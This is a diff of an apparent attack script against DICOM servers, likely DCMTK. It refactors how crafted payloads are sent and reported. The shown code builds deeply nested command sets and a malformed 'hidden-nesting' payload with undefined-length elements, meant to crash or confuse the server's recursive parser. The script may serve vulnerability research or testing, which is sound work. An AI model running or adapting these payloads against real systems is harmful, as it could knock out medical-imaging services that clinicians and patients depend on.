@@ -207,6 +207,18 @@ def outcome(run):
     return 0
 
 
+def send_and_report(sock, data):
+    """Sends `data`, prints the kind of PDU that answers it, or that the association ended."""
+    try:
+        sock.sendall(data)
+        kind, _ = recv_pdu(sock)
+        print("answered with PDU type %d" % kind)
+    except (ConnectionError, OSError) as e:
+        print("association ended: %s" % e)
+    sock.close()
+    return 0
+
+
 def explicit_element(group, elem, vr, value):
     return struct.pack("<HH2sH", group, elem, vr, len(value)) + value
 
@@ -287,14 +299,7 @@ def main():
         # A command set nested deep: commands are parsed by the same recursive reader.
         s, ctx = associate(port)
         cmd = command_store(1, CT, "1.2.3.9.6") + nested(int(args[0]) if args else 20000)
-        try:
-            s.sendall(pdata(ctx[0], True, cmd))
-            kind, _ = recv_pdu(s)
-            print("answered with PDU type %d" % kind)
-        except (ConnectionError, OSError) as e:
-            print("association ended: %s" % e)
-        s.close()
-        return 0
+        return send_and_report(s, pdata(ctx[0], True, cmd))
     elif attack == "hidden-nesting":
         # hidden-nesting vr|un-pixel-data: deep nesting behind a header read differently
         # from how DCMTK reads it, on an explicit VR context.
@@ -320,14 +325,7 @@ def main():
         payload = (struct.pack("<HH2sH", 0x0009, 0x0010, b"\x02\x00", 0) + struct.pack("<HH2s", 0x0009, 0x0009, b"OB")
                    + b"\xff\xff" + b"\xff\xff\xfe\xff" + b"\x00\xe0" + b"\xff\xff\xff\xff" + deep)
         s, ctx = associate(port, ((1, CT, [EXPLICIT]),))
-        try:
-            s.sendall(pdata(ctx[0], False, payload, fragment=len(payload)))
-            kind, _ = recv_pdu(s)
-            print("answered with PDU type %d" % kind)
-        except (ConnectionError, OSError) as e:
-            print("association ended: %s" % e)
-        s.close()
-        return 0
+        return send_and_report(s, pdata(ctx[0], False, payload, fragment=len(payload)))
     elif attack == "offer":
         # offer NAME,NAME,...: one CT context offering these transfer syntaxes; prints the one
         # accepted, or the context's result.
